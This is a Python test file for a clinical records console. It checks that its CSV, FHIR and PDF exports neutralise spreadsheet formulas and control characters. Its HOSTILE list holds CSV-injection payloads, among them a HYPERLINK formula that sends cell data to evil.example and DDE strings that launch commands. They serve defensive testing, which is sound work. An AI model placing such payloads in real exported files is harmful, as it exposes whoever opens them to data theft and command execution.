"""Hostile text through every export: no spreadsheet formula, no control character, nothing crashes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ionto_console.records import (
    PatientData,
    SampleWriter,
    add_note,
    billing_csv,
    billing_summary,
    create_patient,
    events_csv,
    finish_session,
    record_side_effect,
    samples_csv,
    start_session,
)
from ionto_console.records.fhir_export import fhir_bundle_json, write_fhir_bundle
from ionto_console.records.safe_text import (
    BLANK_AFTER_CLEANING,
    FORMULA_TRIGGERS,
    fhir_text,
    is_formula_like,
    safe_cell,
)
from ionto_console.reports.treatment_report import write_treatment_report

from records_helpers import session_start

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "Ann\x00Example\x1b[31m\x07",
    "\x00\x1b\x07",
    "O'Brien, \"Jr\"\nsecond line",
    "Ωмега 患者 😀",
]

_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]")


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _no_control_in_bundle(text: str) -> None:
    for string in _strings(json.loads(text)):
        assert not _CONTROL.search(string), repr(string)


_ids = iter(range(10**9))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@given(st.text())
def test_a_neutralised_cell_is_never_a_formula_and_keeps_the_text(text):
    cell = safe_cell(text)
    assert not is_formula_like(cell)
    assert cell == text or cell == "'" + text
    if text[:1] in FORMULA_TRIGGERS and not re.fullmatch(r"[+-]?[0-9.eE+-]+", text.strip()):
        assert cell.startswith("'")


@given(st.text())
def test_fhir_text_has_no_control_characters(text):
    cleaned = fhir_text(text)
    assert not _CONTROL.search(cleaned) and cleaned.strip()
    assert cleaned == text or cleaned == BLANK_AFTER_CLEANING or len(cleaned) < len(text)


def test_numbers_stay_numbers():
    for number in ("-1.5", "+3", "1e-3", "-0.25E+2"):
        assert safe_cell(number) == number
    assert safe_cell(-1.5) == -1.5


def _hostile_session(db, index: int, text: str) -> int:
    pid = create_patient(db, PatientData(f"P-{index}", text, dt.date(1980, 1, 1), text), who="dana")
    start = session_start(pid, diagnosis_code="L74.510",
                          started_at=dt.datetime(2026, 3, 10, 9, index % 60, tzinfo=dt.timezone.utc))
    sid = start_session(db, start)
    writer = SampleWriter(db, sid)
    writer.add(0.0, -1.0, -5.0, None, 1.0, 1)
    writer.add(0.1, 1.0, 5.0, 5.0, 1.0, 1)
    writer.add_event("note", text, {"text": text})
    writer.close()
    record_side_effect(db, sid, kind="tingling", who="dana", note=text)
    finish_session(db, sid, state="stopped", reason=text, dose_delivered_ma_min=1.0, who="dana",
                   ended_at=start.started_at + dt.timedelta(minutes=20))
    add_note(db, sid, text, author="dana")
    return sid


def test_hostile_names_through_every_export(sqlite_db, tmp_path):
    sessions = [_hostile_session(sqlite_db, i, text) for i, text in enumerate(HOSTILE)]
    billing = billing_csv(billing_summary(sqlite_db, dt.date(2026, 3, 1), dt.date(2026, 3, 31)))
    exports = [billing] + [events_csv(sqlite_db, sid) for sid in sessions] + [samples_csv(sqlite_db, sid)
                                                                            for sid in sessions]
    for text in exports:
        for cell in _cells(text):
            assert not is_formula_like(cell), cell
    # The hostile names are there, quoted, not lost.
    assert "'" + HOSTILE[0] in _cells(billing)
    # Negative sample values stay numbers.
    assert "-1" in _cells(samples_csv(sqlite_db, sessions[0]))
    for sid in sessions:
        _no_control_in_bundle(fhir_bundle_json(sqlite_db, sid))
        path = write_fhir_bundle(sqlite_db, sid, tmp_path / f"s{sid}.json")
        assert json.loads(path.read_text())["resourceType"] == "Bundle"
        pdf = write_treatment_report(sqlite_db, sid, tmp_path / f"s{sid}.pdf")
        assert pdf.read_bytes().startswith(b"%PDF")
    if shutil.which("pdftotext"):
        shown = subprocess.run(["pdftotext", str(tmp_path / f"s{sessions[0]}.pdf"), "-"], capture_output=True,
                               text=True, check=True).stdout
        assert "HYPERLINK" in shown


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.text(min_size=1, max_size=80).filter(str.strip), note=st.text(max_size=200))
def test_any_patient_name_exports_safely(sqlite_db, name, note):
    pid = create_patient(sqlite_db, PatientData(f"H-{next(_ids)}", name, None, note), who="dana")
    sid = start_session(sqlite_db, session_start(pid))
    finish_session(sqlite_db, sid, state="stopped", reason=note, dose_delivered_ma_min=0.0, who="dana")
    if note.strip():
        add_note(sqlite_db, sid, note, author="dana")
    _no_control_in_bundle(fhir_bundle_json(sqlite_db, sid))
    for cell in _cells(events_csv(sqlite_db, sid)):
        assert not is_formula_like(cell)
